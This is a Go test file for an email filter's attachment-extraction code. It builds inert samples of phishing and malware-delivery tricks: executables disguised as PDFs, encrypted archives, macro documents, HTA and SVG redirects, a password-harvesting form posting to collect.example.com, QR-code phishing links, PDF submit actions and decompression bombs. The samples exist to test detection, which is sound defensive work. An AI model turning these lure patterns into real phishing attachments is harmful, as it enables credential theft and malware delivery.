package content

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"strings"
	"testing"

	"github.com/makiuchi-d/gozxing"
	"github.com/makiuchi-d/gozxing/qrcode"

	"github.com/vigilmail/vigil/filters"
)

// part is one MIME part of a test message.
type part struct {
	typ, name, disp string
	body            []byte
}

// multipartMessage builds header fields and a body of a multipart/mixed
// message with the parts, binary ones in base64.
func multipartMessage(parts ...part) ([]filters.Header, string) {
	var b strings.Builder
	for _, p := range parts {
		b.WriteString("--B\r\nContent-Type: " + p.typ)
		if p.name != "" {
			b.WriteString(fmt.Sprintf("; name=%q", p.name))
		}
		b.WriteString("\r\n")
		if p.disp != "" {
			b.WriteString("Content-Disposition: " + p.disp)
			if p.name != "" {
				b.WriteString(fmt.Sprintf("; filename=%q", p.name))
			}
			b.WriteString("\r\n")
		}
		b.WriteString("Content-Transfer-Encoding: base64\r\n\r\n")
		enc := base64.StdEncoding.EncodeToString(p.body)
		for len(enc) > 76 {
			b.WriteString(enc[:76] + "\r\n")
			enc = enc[76:]
		}
		b.WriteString(enc + "\r\n")
	}
	b.WriteString("--B--\r\n")
	return []filters.Header{{Name: "Content-Type", Value: " multipart/mixed; boundary=B"}}, b.String()
}

func extractParts(t *testing.T, parts ...part) *Result {
	t.Helper()
	hs, body := multipartMessage(parts...)
	r, err := Extract(context.Background(), DefaultConfig(), hs, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// zipOf builds a zip archive; an entry whose name starts with "!" is
// marked encrypted (the general purpose flag's bit 0, as an encrypting
// archiver sets it) under the name without the "!".
func zipOf(t *testing.T, files map[string][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	var encrypted []string
	for name, data := range files {
		if strings.HasPrefix(name, "!") {
			name = name[1:]
			encrypted = append(encrypted, name)
		}
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		f.Write(data)
	}
	w.Close()
	b := buf.Bytes()
	for _, name := range encrypted {
		// Local header: flags at 6; central directory entry: flags at 8.
		for _, sig := range [][]byte{[]byte("PK\x03\x04"), []byte("PK\x01\x02")} {
			off := 6
			nameAt := 30
			if sig[2] == 1 {
				off, nameAt = 8, 46
			}
			for i := 0; ; {
				j := bytes.Index(b[i:], sig)
				if j < 0 {
					break
				}
				k := i + j
				if bytes.HasPrefix(b[k+nameAt:], []byte(name)) {
					b[k+off] |= 1
				}
				i = k + 4
			}
		}
	}
	return b
}

var exe = append([]byte("MZ"), make([]byte, 200)...)

func TestSniff(t *testing.T) {
	iso := make([]byte, 0x8010)
	copy(iso[0x8001:], "CD001")
	ole := append([]byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1}, make([]byte, 100)...)
	oleVBA := append(append([]byte(nil), ole...), utf16le("_VBA_PROJECT_CUR")...)
	tests := []struct {
		name, file string
		data       []byte
		kind       filters.FileKind
		format     string
	}{
		{"pe named pdf", "invoice.pdf", exe, filters.FileExecutable, "pe"},
		{"elf", "x", []byte("\x7fELF\x02\x01\x01"), filters.FileExecutable, "elf"},
		{"lnk", "a.pdf.lnk", []byte{0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0}, filters.FileShortcut, "lnk"},
		{"iso", "photos.img", iso, filters.FileDiskImage, "iso"},
		{"vhdx", "d", []byte("vhdxfile........"), filters.FileDiskImage, "vhd"},
		{"ole without macros", "a.doc", ole, filters.FileOffice, "ole2"},
		{"ole with macros", "a.doc", oleVBA, filters.FileMacroDoc, "ole2"},
		{"msi", "setup.msi", ole, filters.FileExecutable, "msi"},
		{"onenote", "n.one", []byte{0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0, 0}, filters.FileOneNote, ""},
		{"pdf after junk", "x.bin", []byte("junk\n%PDF-1.7\n"), filters.FilePDF, ""},
		{"rar", "a.rar", []byte("Rar!\x1a\x07\x00...."), filters.FileArchive, "rar"},
		{"7z", "a.7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04"), filters.FileArchive, "7z"},
		{"hta by content", "a.txt", []byte("<html><HTA:APPLICATION id=x>"), filters.FileScript, "hta"},
		{"vbs by name", "a.vbs", []byte("MsgBox 1"), filters.FileScript, "vbs"},
		{"html by content", "a.txt", []byte("<!DOCTYPE html><html>"), filters.FileHTML, ""},
		{"svg", "a.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">`), filters.FileSVG, ""},
		{"url shortcut", "a.url", []byte("[InternetShortcut]\r\nURL=http://x.example/"), filters.FileShortcut, "url"},
		{"png", "a.bin", []byte("\x89PNG\r\n\x1a\n...."), filters.FileImage, ""},
		{"text", "notes.txt", []byte("hello"), filters.FileText, ""},
		{"binary", "x.dat", []byte{0, 1, 2, 3}, filters.FileOther, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			k, f := sniff(tt.data, tt.file)
			if k != tt.kind || f != tt.format {
				t.Errorf("sniff = %q, %q; want %q, %q", k, f, tt.kind, tt.format)
			}
		})
	}
}

func TestArchives(t *testing.T) {
	inner := zipOf(t, map[string][]byte{"payload.js": []byte("WScript.Shell")})
	outer := zipOf(t, map[string][]byte{
		"invoice.pdf.exe": exe,
		"more.zip":        inner,
		"!secret.docm":    []byte("x"),
		"readme.html":     []byte(`<html><a href="https://in-archive.example.com/x">x</a></html>`),
		"docs/":           nil,
		"statement.pdf":   []byte("%PDF-1.4\n1 0 obj << /A << /S /URI /URI (https://pdf-in-zip.example.com/) >> >>\nendobj\n"),
		"shortcut.url":    []byte("[InternetShortcut]\r\nURL=file://203.0.113.5/share/run.exe\r\n"),
		"bookmark.url":    []byte("[InternetShortcut]\r\nURL=https://bookmark.example.com/\r\n"),
	})
	r := extractParts(t, part{typ: "application/zip", name: "docs.zip", disp: "attachment", body: outer})
	if len(r.Content.Attachments) != 1 {
		t.Fatalf("attachments %+v", r.Content.Attachments)
	}
	a := r.Content.Attachments[0]
	if a.Kind != filters.FileArchive || a.Format != "zip" || !a.Encrypted {
		t.Errorf("archive %+v", a)
	}
	kinds := map[string]filters.FileKind{}
	for _, e := range a.Entries {
		kinds[e.Name] = e.Kind
	}
	for name, want := range map[string]filters.FileKind{
		"invoice.pdf.exe": filters.FileExecutable, "more.zip/payload.js": filters.FileScript, "secret.docm": filters.FileMacroDoc,
		"readme.html": filters.FileHTML, "statement.pdf": filters.FilePDF, "shortcut.url": filters.FileShortcut,
	} {
		if kinds[name] != want {
			t.Errorf("entry %s: kind %q, want %q (entries %v)", name, kinds[name], want, kinds)
		}
	}
	urls := map[string]string{}
	for _, u := range r.Content.URLs {
		urls[u.Host] = u.Source
	}
	for host, src := range map[string]string{"in-archive.example.com": SourceArchive, "pdf-in-zip.example.com": SourceArchive, "bookmark.example.com": SourceArchive} {
		if urls[host] != src {
			t.Errorf("%s: source %q, want %q (URLs %v)", host, urls[host], src, urls)
		}
	}
}

func TestOfficeAndJavaZips(t *testing.T) {
	docm := zipOf(t, map[string][]byte{"[Content_Types].xml": []byte("<Types/>"), "word/vbaProject.bin": []byte("x")})
	docx := zipOf(t, map[string][]byte{"[Content_Types].xml": []byte("<Types/>"), "word/document.xml": []byte("x")})
	jar := zipOf(t, map[string][]byte{"META-INF/MANIFEST.MF": []byte("Main-Class: A"), "A.class": []byte("\xca\xfe\xba\xbe")})
	r := extractParts(t,
		part{typ: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", name: "a.docx", disp: "attachment", body: docm},
		part{typ: "application/octet-stream", name: "b.docx", disp: "attachment", body: docx},
		part{typ: "application/octet-stream", name: "c.zip", disp: "attachment", body: jar})
	want := []filters.FileKind{filters.FileMacroDoc, filters.FileOffice, filters.FileExecutable}
	for i, a := range r.Content.Attachments {
		if a.Kind != want[i] {
			t.Errorf("%s: %q/%q, want %q", a.Name, a.Kind, a.Format, want[i])
		}
	}
}

func TestRAR(t *testing.T) {
	// RAR 4: marker, main header, a file header with the encrypted flag.
	name := "invoice.exe"
	fh := make([]byte, 32+len(name))
	fh[2] = 0x74
	fh[3] = 0x04 // flags: encrypted
	fh[5] = byte(len(fh))
	fh[26] = byte(len(name))
	copy(fh[32:], name)
	rar4 := append([]byte("Rar!\x1a\x07\x00"), []byte{0, 0, 0x73, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0}...)
	rar4 = append(rar4, fh...)
	// RAR 5: a file header (type 2) with an extra area holding an
	// encryption record (type 1).
	name5 := "payload.js"
	extra := []byte{2, 0x01, 0}                           // record size 2: type 1, one byte of data
	body := []byte{2, 0x01, byte(len(extra))}             // type, flags (extra area), extra size
	body = append(body, 0, 10, 0, 0, 0, byte(len(name5))) // file flags, size, attributes, compression, host OS, name length
	body = append(body, name5...)
	body = append(body, extra...)
	rar5 := append([]byte("Rar!\x1a\x07\x01\x00"), 0, 0, 0, 0, byte(len(body)))
	rar5 = append(rar5, body...)
	r := extractParts(t,
		part{typ: "application/x-rar", name: "a.rar", disp: "attachment", body: rar4},
		part{typ: "application/x-rar", name: "b.rar", disp: "attachment", body: rar5})
	for i, want := range []string{name, name5} {
		a := r.Content.Attachments[i]
		if a.Kind != filters.FileArchive || !a.Encrypted || len(a.Entries) != 1 || a.Entries[0].Name != want || !a.Entries[0].Encrypted {
			t.Errorf("%s: %+v", a.Name, a)
		}
	}
}

func TestMarkupFiles(t *testing.T) {
	page := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("<div>Sign in to your mailbox</div>", 40)))
	r := extractParts(t,
		part{typ: "text/html", name: "refresh.html", disp: "attachment", body: []byte(`<html><head><meta http-equiv="refresh" content="0; url=https://landing.example.net/"></head></html>`)},
		part{typ: "application/octet-stream", name: "scan.htm", disp: "attachment", body: []byte(`<html><script>document.write(atob("` + page + `"))</script></html>`)},
		part{typ: "image/svg+xml", name: "voice.svg", disp: "attachment", body: []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://svg.example.org/"</script></svg>`)},
		part{typ: "text/html", name: "login.html", disp: "attachment", body: []byte(`<html><form action="https://collect.example.com/p.php"><input type="email" name="u"><input type="password" name="p"></form></html>`)},
	)
	want := map[string][]filters.Behaviour{
		"refresh.html": {filters.BehaviourRedirect},
		"scan.htm":     {filters.BehaviourEncodedPage},
		"voice.svg":    {filters.BehaviourRedirect, filters.BehaviourScript},
		"login.html":   nil,
	}
	for _, a := range r.Content.Attachments {
		if fmt.Sprint(a.Behaviours) != fmt.Sprint(want[a.Name]) {
			t.Errorf("%s (%s): behaviours %v, want %v", a.Name, a.Kind, a.Behaviours, want[a.Name])
		}
	}
	if len(r.Content.Forms) != 1 || r.Content.Forms[0] != (filters.Form{In: "login.html", Action: "https://collect.example.com/p.php", Password: true, Email: true}) {
		t.Errorf("forms %+v", r.Content.Forms)
	}
}

func TestBodyFormsAndActiveLinks(t *testing.T) {
	html := `<html><body><form action="/login"><input name="username"><input type="password"></form>` +
		`<a href="data:text/html;base64,PGgxPmhpPC9oMT4=">Open the document</a>` +
		`<a href="javascript:window.location='https://js.example.com/'">View</a>` +
		`<a href="javascript:void(0)">nothing</a></body></html>`
	r, err := Extract(context.Background(), DefaultConfig(), []filters.Header{{Name: "Content-Type", Value: " text/html"}}, strings.NewReader(html))
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Content.Forms) != 1 || !r.Content.Forms[0].Password || r.Content.Forms[0].In != "body" {
		t.Errorf("forms %+v", r.Content.Forms)
	}
	if fmt.Sprint(r.Content.ActiveLinks) != "[data:text/html;base64 Open the document javascript: View]" {
		t.Errorf("active links %q", r.Content.ActiveLinks)
	}
}

// qrPNG encodes text as a QR code picture with a quiet zone.
func qrPNG(t *testing.T, text string, side int) (image.Image, []byte) {
	t.Helper()
	m, err := qrcode.NewQRCodeWriter().Encode(text, gozxing.BarcodeFormat_QR_CODE, side, side, nil)
	if err != nil {
		t.Fatal(err)
	}
	img := image.NewGray(image.Rect(0, 0, side, side))
	for y := 0; y < side; y++ {
		for x := 0; x < side; x++ {
			c := color.Gray{255}
			if m.Get(x, y) {
				c = color.Gray{0}
			}
			img.SetGray(x, y, c)
		}
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return img, buf.Bytes()
}

func TestQRCodes(t *testing.T) {
	_, pngBytes := qrPNG(t, "https://quish.example.com/login?u=1", 240)
	// Another code as the samples of an image XObject of a PDF: 8-bit
	// grey, Flate-compressed.
	img2, _ := qrPNG(t, "https://pdf-quish.example.com/", 200)
	var z2 bytes.Buffer
	zw2 := zlib.NewWriter(&z2)
	zw2.Write(img2.(*image.Gray).Pix)
	zw2.Close()
	pdf := []byte(fmt.Sprintf("%%PDF-1.4\n5 0 obj\n<< /Type /XObject /Subtype /Image /Width 200 /Height 200 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n", z2.Len()))
	pdf = append(pdf, z2.Bytes()...)
	pdf = append(pdf, "\nendstream\nendobj\n"...)
	r := extractParts(t,
		part{typ: "image/png", name: "scan-me.png", disp: "inline", body: pngBytes},
		part{typ: "application/pdf", name: "doc.pdf", disp: "attachment", body: pdf})
	got := map[string]string{}
	for _, u := range r.Content.URLs {
		got[u.Host] = u.Source
	}
	if got["quish.example.com"] != SourceQR || got["pdf-quish.example.com"] != SourceQR {
		t.Errorf("QR links %v, codes %q", got, r.Content.QRCodes)
	}
	if len(r.Content.QRCodes) != 2 {
		t.Errorf("QR codes %q", r.Content.QRCodes)
	}
}

func TestPDF(t *testing.T) {
	var objStm bytes.Buffer
	zw := zlib.NewWriter(&objStm)
	zw.Write([]byte("<< /Type /Annot /Subtype /Link /A << /S /URI /URI <68747470733a2f2f68696464656e2e6578616d706c652e636f6d2f> >> >>"))
	zw.Close()
	var page bytes.Buffer
	zw = zlib.NewWriter(&page)
	zw.Write([]byte("BT /F1 12 Tf (Visit ) Tj (https://written.example.org/pay) Tj ET"))
	zw.Close()
	pdf := "%PDF-1.7\n" +
		"1 0 obj << /A << /S /URI /URI (https://plain.example.com/a\\(1\\)) >> >> endobj\n" +
		"2 0 obj << /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Length " + fmt.Sprint(objStm.Len()) + " >>\nstream\n" + objStm.String() + "\nendstream endobj\n" +
		"3 0 obj << /Filter /FlateDecode /Length " + fmt.Sprint(page.Len()) + " >>\nstream\n" + page.String() + "\nendstream endobj\n" +
		"4 0 obj << /AcroForm << /Fields [5 0 R] >> >> endobj\n" +
		"5 0 obj << /FT /Tx /T (Password) >> endobj\n" +
		"6 0 obj << /S /SubmitForm /F << /FS /URL /F (https://post.example.net/collect) >> >> endobj\n" +
		"7 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n%%EOF\n"
	r := extractParts(t, part{typ: "application/pdf", name: "statement.pdf", disp: "attachment", body: []byte(pdf)})
	got := map[string]string{}
	for _, u := range r.Content.URLs {
		got[u.URL] = u.Source
	}
	for url, src := range map[string]string{
		"https://plain.example.com/a(1)": SourcePDF, "https://hidden.example.com/": SourcePDF,
		"https://written.example.org/pay": SourcePDF, "https://post.example.net/collect": SourcePDF,
	} {
		if got[url] != src {
			t.Errorf("%s: source %q, want %q (URLs %v)", url, got[url], src, got)
		}
	}
	if len(r.Content.Forms) != 1 || !r.Content.Forms[0].Password || r.Content.Forms[0].Action != "https://post.example.net/collect" {
		t.Errorf("forms %+v", r.Content.Forms)
	}
	if a := r.Content.Attachments[0]; fmt.Sprint(a.Behaviours) != "[script]" {
		t.Errorf("behaviours %v", a.Behaviours)
	}
}

// TestInflateBomb: a PDF stream and a zip entry that decompress to far
// more than max_inflate_bytes cost that bound, not what they claim.
func TestInflateBomb(t *testing.T) {
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(bytes.Repeat([]byte("A"), 64<<20))
	zw.Close()
	pdf := append([]byte(fmt.Sprintf("%%PDF-1.4\n1 0 obj << /Filter /FlateDecode /Length %d >>\nstream\n", z.Len())), z.Bytes()...)
	pdf = append(pdf, "\nendstream endobj\n"...)
	bomb := zipOf(t, map[string][]byte{"big.txt": bytes.Repeat([]byte("B"), 64<<20)})
	cfg := DefaultConfig()
	cfg.MaxInflateBytes = 1 << 20
	hs, body := multipartMessage(part{typ: "application/pdf", name: "a.pdf", disp: "attachment", body: pdf},
		part{typ: "application/zip", name: "b.zip", disp: "attachment", body: bomb})
	r, err := Extract(context.Background(), cfg, hs, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if !hasSymbol(r.Symbols, SymLimitSize) {
		t.Errorf("no %s: %v", SymLimitSize, names(r.Symbols))
	}
	if len(r.Content.Attachments) != 2 {
		t.Errorf("attachments %+v", r.Content.Attachments)
	}
}

// FuzzFile feeds arbitrary bytes to the readers of attached files as
// each kind: PDF, zip, rar, 7z, gzip, HTML, SVG, picture, shortcut.
// Whatever the bytes, they return, within the inflate bound.
func FuzzFile(f *testing.F) {
	f.Add([]byte("%PDF-1.4\n1 0 obj << /URI (http://a.example/) /S /SubmitForm /F (http://b.example/) >> stream\nx\nendstream"))
	f.Add([]byte("PK\x05\x06\x00\x00\x00\x00\xff\xff\xff\xff\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"))
	f.Add([]byte("Rar!\x1a\x07\x01\x00\x00\x00\x00\x00\xff\xff\xff\x7f\x02"))
	f.Add([]byte("Rar!\x1a\x07\x00\x00\x00\x74\x04\x80\x07\x00\xff\xff\xff\xff"))
	f.Add([]byte("[InternetShortcut]\nURL=file://x/y"))
	f.Add([]byte("<svg><script>location='http://x.example'</script></svg>"))
	cfg := DefaultConfig()
	cfg.MaxInflateBytes = 1 << 20
	formats := []struct {
		kind   filters.FileKind
		format string
	}{{filters.FilePDF, ""}, {filters.FileArchive, "zip"}, {filters.FileArchive, "rar"}, {filters.FileArchive, "7z"},
		{filters.FileArchive, "gzip"}, {filters.FileHTML, ""}, {filters.FileSVG, ""}, {filters.FileImage, ""}, {filters.FileShortcut, "url"}}
	f.Fuzz(func(t *testing.T, data []byte) {
		sniff(data, "x.bin")
		for _, k := range formats {
			x := newExtractor(context.Background(), cfg)
			x.qr = NewQRReader(cfg.decodeLimits(), 0)
			a := filters.Attachment{Name: "f", Kind: k.kind, Format: k.format}
			x.lookInto(&a, data, [32]byte{})
			if x.inflated > cfg.MaxInflateBytes {
				t.Fatalf("%s/%s: inflated %d bytes, over the bound %d", k.kind, k.format, x.inflated, cfg.MaxInflateBytes)
			}
			if len(a.Entries) > cfg.MaxArchiveEntries {
				t.Fatalf("%d entries", len(a.Entries))
			}
		}
	})
}
